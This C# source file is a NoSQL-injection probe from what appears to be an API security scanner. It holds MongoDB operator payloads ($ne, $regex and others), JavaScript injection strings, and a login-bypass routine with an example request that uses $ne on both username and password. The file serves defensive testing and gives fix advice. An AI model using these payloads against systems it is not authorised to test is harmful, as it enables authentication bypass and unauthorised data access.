using System.Text.Json.Nodes;
using Assay.Contract;
using Assay.Contract.OpenApi;
using Assay.Contract.Schemas;
using Assay.Contract.Text;
using Assay.Probe.Answers;
using Assay.Probe.Generation;
using Assay.Probe.Places;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Database;

/// <summary>NoSQL injection: a value becomes an operator of the query, or a part of its code.</summary>
public sealed class NoSqlInjection : OperationProbe
{
    // An operator that matches everything beside one that matches nothing; {0} is a text that stands nowhere.
    private static readonly (string Name, string Yes, string No)[] Operators =
    [
        ("$ne", """{"$ne":"{0}"}""", """{"$eq":"{0}"}"""),
        ("$gt", """{"$gt":""}""", """{"$lt":""}"""),
        ("$regex", """{"$regex":".*"}""", """{"$regex":"^{0}$"}"""),
        ("$nin", """{"$nin":["{0}"]}""", """{"$in":["{0}"]}"""),
        ("$exists", """{"$exists":true}""", """{"$exists":false}"""),
    ];

    // {0} a value, {1} and {2} numbers that are equal or not: JavaScript, which no SQL database would read so.
    private static readonly string[] Scripts =
    [
        "zq' || '{1}'=='{2}", "zq\" || \"{1}\"==\"{2}", "0 || {1}==={2}", "zq'; return '{1}'=='{2}'; var zq='", "zq' || {1}==={2} || 'a'=='b",
    ];

    /// <inheritdoc/>
    public override string Code => "ZTP402";

    /// <inheritdoc/>
    public override string Name => "nosql-injection";

    /// <inheritdoc/>
    public override Threat Threat => Threat.NoSqlInjection;

    /// <inheritdoc/>
    public override Flow Flow => Flow.Database;

    /// <inheritdoc/>
    public override string Doc => """
        ## What it does
        Sends operators of document databases (`{"$ne": ...}`, `name[$ne]=...`) and pieces of JavaScript where the contract
        wants a text. Each operator that matches everything is sent beside one that matches nothing, several times with other
        texts; only answers that follow the operator prove something. Where data is written, nothing of this is sent.
        ## Why it matters
        `{"password": {"$ne": ""}}` is everybody's password.
        ## Bad
        ```http
        POST /login HTTP/1.1
        Content-Type: application/json

        {"username":{"$ne":"x"},"password":{"$ne":"x"}}

        HTTP/1.1 200
        {"token":"..."}
        ```
        ## Good
        ```http
        POST /login HTTP/1.1
        Content-Type: application/json

        {"username":{"$ne":"x"},"password":{"$ne":"x"}}

        HTTP/1.1 400
        ```
        """;

    internal override bool Concerns(Subject subject) =>
        subject.IsAttackable && (subject.Operation.IsSafe || subject.Operation.Method == "POST") && Place.Of(subject).Any(TakesScalar);

    internal override async IAsyncEnumerable<Finding> AttackAsync(Scene scene, Subject subject)
    {
        var found = false;
        foreach (var place in Place.Of(subject).Where(TakesScalar))
        {
            if (await Foothold.FindAsync(scene, subject, place) is { MayAsk: true } target
                && (await OperatorAsync(target, v => target.SendAsync(v), o => QueryAsync(target, o)) ?? await ScriptAsync(target)) is { } proof)
            {
                found = true;
                yield return Report(scene, subject, place, proof);
            }
        }

        // Who must get past two checks at once has to bend both.
        if (!found && subject is { IsLogin: true, Arguments.Body: JsonObject body }
            && Place.Of(subject).Where(p => p.Parameter is null && Inputs.TakesText(p.Schema) && body.ContainsKey(p.Name)).ToArray() is { Length: > 1 } all
            && await Foothold.FindAsync(scene, subject, all[^1]) is { } login
            && await OperatorAsync(login, v => SendAllAsync(scene, subject, all, v), o => SendAllFormAsync(scene, subject, all, o)) is { } both)
        {
            yield return Report(scene, subject, all[^1], both);
        }
    }

    private Finding Report(Scene scene, Subject subject, Place place, InputProof proof) => Found(
        place.Where,
        $"`{subject.Operation.Title}` makes `{Names.Short(place.Name)}` a part of its query",
        "check that every value is of the type that the contract says before it reaches a query; never build code from it",
        scene.Evidence(proof.Attack, proof.Why));

    private static bool TakesScalar(Place place) =>
        place.Parameter?.In is null or ParameterLocation.Query
        && (place.Schema is null || (place.Schema.AllTypes() is var types && (types == SchemaTypes.None ? place.Schema.AllProperties().Count == 0 : (types & SchemaTypes.Object) == 0)));

    private static async Task<InputProof?> OperatorAsync(Foothold target, Func<JsonNode?, Task<Exchange>> sendBody, Func<JsonNode?, Task<Exchange>> sendPairs)
    {
        var inBody = target.Place.Parameter is null && target.Subject.Arguments.BodyType is not { IsForm: true };
        foreach (var (name, yes, no) in Operators)
        {
            // Each number gives a text of its own that stands in no database.
            string Fill(string form, int n) => form.Replace("{0}", $"zq{target.Scene.Mark}{new string('q', n)}", StringComparison.Ordinal);
            Task<Exchange> SendAsync(string json) => inBody ? sendBody(JsonNode.Parse(json)) : sendPairs(JsonNode.Parse(json));
            var attack = await Differential.ProveAsync(
                SendAsync, n => Fill(yes, n), n => Fill(no, n), (a, b) => a.IsSuccess && !b.IsServerError && !IsSameAsNonsense(target, a));
            if (attack is not null)
            {
                return new InputProof(attack, $"an operator that matches everything (`{name}`) brings {attack.Answer}, one that matches nothing does not, each four times with other texts: the operator reaches the query");
            }
        }

        return null;
    }

    // What a meaningless text brings too is no match.
    private static bool IsSameAsNonsense(Foothold target, Answer answer) =>
        Attempt.IsSame(new Attempt("", new Exchange(target.Control.Call, answer)), new Attempt($"zq{target.Scene.Mark}", target.Nonsense), new HashSet<string>());

    private static async Task<InputProof?> ScriptAsync(Foothold target)
    {
        if (target.RefusesText)
        {
            return null;
        }

        foreach (var script in Scripts)
        {
            string Fill(int one, int other) => script.Replace("{1}", $"{one}", StringComparison.Ordinal).Replace("{2}", $"{other}", StringComparison.Ordinal);
            var attack = await Differential.ProveAsync(
                target.SendAsync, n => Fill(7 + n, 7 + n), n => Fill(7 + n, 8 + n), (yes, no) => yes.IsSuccess && !no.IsServerError);
            if (attack is not null)
            {
                return new InputProof(attack, "a true comparison in JavaScript brings what a false one does not, four times with other numbers: the text is part of the query's code");
            }
        }

        return null;
    }

    // name[$ne]=x, in the query or in a form.
    private static Task<Exchange> QueryAsync(Foothold target, JsonNode? value) =>
        SendPairsAsync(target.Scene, target.Subject, [target.Place], value);

    private static Task<Exchange> SendAllFormAsync(Scene scene, Subject subject, IReadOnlyList<Place> places, JsonNode? value) =>
        SendPairsAsync(scene, subject, places, value);

    private static async Task<Exchange> SendPairsAsync(Scene scene, Subject subject, IReadOnlyList<Place> places, JsonNode? value)
    {
        var arguments = subject.Arguments;
        var pairs = new List<KeyValuePair<string, string>>();
        foreach (var place in places)
        {
            arguments = place.Parameter is { } parameter ? arguments.Without(parameter) : Without(arguments, place.Name);
            foreach (var (name, operand) in (JsonObject)value!)
            {
                var operands = operand is JsonArray several ? several.ToArray() : [operand];
                pairs.AddRange(operands.Select(o => new KeyValuePair<string, string>(
                    Uri.EscapeDataString($"{place.Name}[{name}]{(operand is JsonArray ? "[]" : "")}"), Uri.EscapeDataString(JsonNodes.ToText(o)))));
            }
        }

        var call = scene.Calls.Build(subject.Operation, arguments, subject.Caller);
        if (places[0].Parameter is not null)
        {
            call = call with { Query = [.. call.Query, .. pairs] };
        }
        else
        {
            var form = call.Body is { Length: > 0 } body ? System.Text.Encoding.UTF8.GetString(body.Span) + "&" : "";
            call = call with { Body = System.Text.Encoding.UTF8.GetBytes(form + string.Join('&', pairs.Select(p => $"{p.Key}={p.Value}"))) };
        }

        return new Exchange(call, await scene.SendAsync(call));
    }

    private static Arguments Without(Arguments arguments, string name)
    {
        var body = (JsonObject)arguments.Body!.DeepClone();
        body.Remove(name);
        return arguments.WithBody(body);
    }

    private static Task<Exchange> SendAllAsync(Scene scene, Subject subject, IEnumerable<Place> places, JsonNode? value) =>
        scene.SendAsync(subject.Operation, places.Aggregate(subject.Arguments, (arguments, place) => place.Set(arguments, value)), subject.Caller);
}
